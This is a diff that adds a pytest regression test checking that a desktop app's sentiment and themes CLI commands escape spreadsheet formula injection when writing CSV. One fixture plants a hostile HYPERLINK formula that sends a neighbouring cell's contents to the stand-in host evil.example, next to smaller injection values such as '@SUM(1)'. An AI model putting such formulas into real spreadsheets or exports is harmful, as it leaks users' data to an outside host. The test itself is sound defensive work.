@@ -153,3 +153,51 @@ def test_a_sep_line_and_bare_return_line_ends_are_read_as_excel_reads_them(tmp_p
     path.write_bytes(b"sep=;\rtext;team\rSlow, again;IT\r")
     header, rows, lines = read_text_csv(path)
     assert (header, rows, lines) == (["text", "team"], [{"text": "Slow, again", "team": "IT"}], [3])
+
+
+@pytest.mark.parametrize("command", ["sentiment", "themes"])
+def test_text_cells_of_a_workbook_do_not_become_formulas_in_the_csv(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], command: str
+) -> None:
+    """Sixth hostile round: a workbook's text cell `=HYPERLINK(...)` is text in Excel, but
+    `rapport sentiment`/`themes` wrote it back bare into their CSV, where Excel (or, after
+    a `;`, European Excel) reads it as a formula. Numbers stay numbers."""
+    import openpyxl
+
+    from desktop_app.cli import main
+
+    planted = '=HYPERLINK("http://evil.example/?"&A3,"Details")'
+    book = openpyxl.Workbook()
+    sheet = book.active
+    sheet.append(["text", "team", "score"])
+    for text, team in [
+        (planted, "@SUM(1)"),
+        ("Slow again;=1+2", "-Ops"),
+        ("The handover was slow and nobody answered.", "IT"),
+        ("Great help from the team, thanks.", "Sales"),
+    ]:
+        sheet.append([text, team, -3])
+        sheet.cell(sheet.max_row, 1).data_type = "s"  # text, as a survey tool writes it
+    book.save(tmp_path / "in.xlsx")
+    reread = openpyxl.load_workbook(tmp_path / "in.xlsx").active
+    assert reread["A2"].data_type == "s" and reread["A2"].value == planted  # text, in Excel
+    out = tmp_path / "out.csv"
+    assert main([command, str(tmp_path / "in.xlsx"), "--out", str(out)]) == 0
+    capsys.readouterr()
+    with out.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    cells = [value for row in rows for value in row.values() if not _number(value)]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
+    assert rows[0]["text"] == "'" + planted and rows[0]["team"] == "'@SUM(1)"
+    assert rows[1]["text"] == "Slow again;'=1+2" and rows[1]["team"] == "'-Ops"
+    assert rows[0]["score"] == "-3"
+    if command == "sentiment":
+        assert float(rows[2]["sentiment"]) < 0  # a number, not "'-0.42"
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
